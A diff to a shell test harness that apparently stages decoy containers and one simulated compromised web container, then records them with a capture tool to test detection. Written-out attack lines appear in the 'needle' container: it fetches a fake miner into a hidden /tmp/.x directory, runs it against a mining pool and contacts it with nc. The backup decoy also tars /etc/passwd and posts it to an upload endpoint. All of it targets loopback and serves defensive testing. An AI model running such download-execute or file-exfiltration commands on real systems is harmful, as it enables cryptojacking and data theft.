@@ -42,8 +42,9 @@ rootfs() {
   echo '<h1>shop</h1>' > "$r/var/www/index.html"
 }
 
-# start NAME CGROUP_STYLE POD NAMESPACE IMAGE SCRIPT
-start() {
+# prepare NAME CGROUP_STYLE POD NAMESPACE IMAGE SCRIPT — builds the bundle; nothing runs yet,
+# so the host activity of building bundles stays out of the recording.
+prepare() {
   local name=$1 style=$2 pod=$3 ns=$4 image=$5 script=$6 id bundle cgpath
   id=$(rand_id); bundle="$work/$name"
   mkdir -p "$bundle"; rootfs "$bundle/rootfs"
@@ -71,14 +72,19 @@ c["annotations"] = {
 }
 json.dump(c, open(path, "w"), indent=1)
 PY
-  (cd "$bundle" && runc run -d "$id" >/dev/null 2>&1 </dev/null)
-  ids+=("$id")
-  echo "$id,$name,$6" >/dev/null
   printf '%s,%s\n' "$id" "$name" >> "$work/containers.csv"
+}
+
+launch() { # starts every prepared container
+  while IFS=, read -r id name; do
+    (cd "$work/$name" && runc run -d "$id" >/dev/null 2>&1 </dev/null)
+    ids+=("$id")
+  done < "$work/containers.csv"
 }
 
 # The attacker's server: the payload and a fake mining pool, on loopback only.
 mkdir -p "$work/www"
+echo "build artifact" > "$work/www/artifact"
 printf '#!/bin/sh\n# stand-in for a downloaded miner: connects to the pool and burns CPU\n(echo "{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[\\"xmrig/6.21\\"]}"; /bin/sleep 3) | /bin/nc 127.0.0.1 13333\ni=0; while [ $i -lt 200000 ]; do i=$((i+1)); done\n' > "$work/www/kworker"
 busybox httpd -f -p 127.0.0.1:18080 -h "$work/www" & pids+=($!)
 # The fake pool: accepts on 127.0.0.1:13333, reads what the miner says, for at most 120 s.
@@ -101,22 +107,24 @@ while time.time() < end:
         pass
 PY
 
+
+n=$((seconds - 8))
+prepare web-1   docker     shop-web-7d9f-abcde   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18081 -h /var/www & for i in \$(/bin/seq 1 $n); do /bin/sleep 1; /bin/date > /dev/null; done"
+prepare web-2   containerd shop-web-7d9f-fghij   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18082 -h /var/www & for i in \$(/bin/seq 1 $n); do /bin/sleep 1; done"
+prepare client  containerd loadgen-5c6b-kkkkk    shop    registry.local/tools/curl:8    "for i in \$(/bin/seq 1 $n); do /bin/wget -q -O /dev/null http://127.0.0.1:18081/; /bin/wget -q -O /dev/null http://127.0.0.1:18082/; /bin/sleep 1; done"
+prepare backup  crio       backup-28810-xyz12    ops     registry.local/ops/backup:1.0  "for i in \$(/bin/seq 1 $((n / 4))); do /bin/mkdir -p /data/b; /bin/cp /etc/passwd /data/b/p\$i; /bin/tar -cf /tmp/b.tar /data/b; /bin/gzip -f /tmp/b.tar; /bin/sha256sum /tmp/b.tar.gz > /dev/null; /bin/wget -q -O /dev/null --post-file=/tmp/b.tar.gz http://127.0.0.1:18080/upload || true; /bin/sleep 4; done"
+prepare ci      docker     ci-runner-0            ci      registry.local/ci/runner:5     "for i in \$(/bin/seq 1 $((n / 2))); do /bin/wget -q -O /tmp/artifact http://127.0.0.1:18080/artifact || true; /bin/ls /bin > /tmp/l; /bin/grep sh /tmp/l > /dev/null; /bin/sort /tmp/l | /bin/wc -l > /dev/null; /bin/uname -a > /dev/null; /bin/sleep 2; done"
+prepare health  crio       health-checker-9q8w7  monitoring registry.local/mon/probe:3  "for i in \$(/bin/seq 1 $n); do /bin/wget -q -O /dev/null http://127.0.0.1:18081/ || true; /bin/sleep 1; done"
+prepare sidecar containerd shop-web-7d9f-abcde   shop    registry.local/mesh/proxy:1.9  "/bin/sleep $n"
+# The needle: the same web image, but its request handler runs a shell command an attacker
+# injected — download, chmod +x, run from a hidden directory in /tmp, connect to the "pool".
+prepare web-3   docker     shop-web-7d9f-lmnop   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18083 -h /var/www & /bin/sleep 8; /bin/sh -c '/bin/mkdir -p /tmp/.x && /bin/wget -q -O /tmp/.x/kworker http://127.0.0.1:18080/kworker && /bin/chmod +x /tmp/.x/kworker && /tmp/.x/kworker -o pool.minexmr.com:4444 -u 4A1b2c3d'; for i in \$(/bin/seq 1 $((n - 8))); do /bin/sleep 1; done"
+
 rm -rf "$out"; mkdir -p "$out"
 traces="$out/traces"
 target/release/capture --duration "${seconds}s" --output "$traces" > "$work/summary" 2> "$work/capture.err" & cap=$!
 for _ in $(seq 1 300); do grep -q "recording with" "$work/capture.err" 2>/dev/null && break; sleep 0.1; done
-
-n=$((seconds - 8))
-start web-1   docker     shop-web-7d9f-abcde   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18081 -h /var/www & for i in \$(/bin/seq 1 $n); do /bin/sleep 1; /bin/date > /dev/null; done"
-start web-2   containerd shop-web-7d9f-fghij   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18082 -h /var/www & for i in \$(/bin/seq 1 $n); do /bin/sleep 1; done"
-start client  containerd loadgen-5c6b-kkkkk    shop    registry.local/tools/curl:8    "for i in \$(/bin/seq 1 $n); do /bin/wget -q -O /dev/null http://127.0.0.1:18081/; /bin/wget -q -O /dev/null http://127.0.0.1:18082/; /bin/sleep 1; done"
-start backup  crio       backup-28810-xyz12    ops     registry.local/ops/backup:1.0  "for i in \$(/bin/seq 1 $((n / 4))); do /bin/mkdir -p /data/b; /bin/cp /etc/passwd /data/b/p\$i; /bin/tar -cf /tmp/b.tar /data/b; /bin/gzip -f /tmp/b.tar; /bin/sha256sum /tmp/b.tar.gz > /dev/null; /bin/sleep 4; done"
-start ci      docker     ci-runner-0            ci      registry.local/ci/runner:5     "for i in \$(/bin/seq 1 $((n / 2))); do /bin/ls /bin > /tmp/l; /bin/grep sh /tmp/l > /dev/null; /bin/sort /tmp/l | /bin/wc -l > /dev/null; /bin/uname -a > /dev/null; /bin/sleep 2; done"
-start health  crio       health-checker-9q8w7  monitoring registry.local/mon/probe:3  "for i in \$(/bin/seq 1 $n); do /bin/wget -q -O /dev/null http://127.0.0.1:18081/ || true; /bin/sleep 1; done"
-start sidecar containerd shop-web-7d9f-abcde   shop    registry.local/mesh/proxy:1.9  "/bin/sleep $n"
-# The needle: the same web image, but its request handler runs a shell command an attacker
-# injected — download, chmod +x, run from a hidden directory in /tmp, connect to the "pool".
-start web-3   docker     shop-web-7d9f-lmnop   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18083 -h /var/www & /bin/sleep 8; /bin/sh -c '/bin/mkdir -p /tmp/.x && /bin/wget -q -O /tmp/.x/kworker http://127.0.0.1:18080/kworker && /bin/chmod +x /tmp/.x/kworker && /tmp/.x/kworker -o pool.minexmr.com:4444 -u 4A1b2c3d'; for i in \$(/bin/seq 1 $((n - 8))); do /bin/sleep 1; done"
+launch
 
 wait "$cap" || true
 cat "$work/summary"
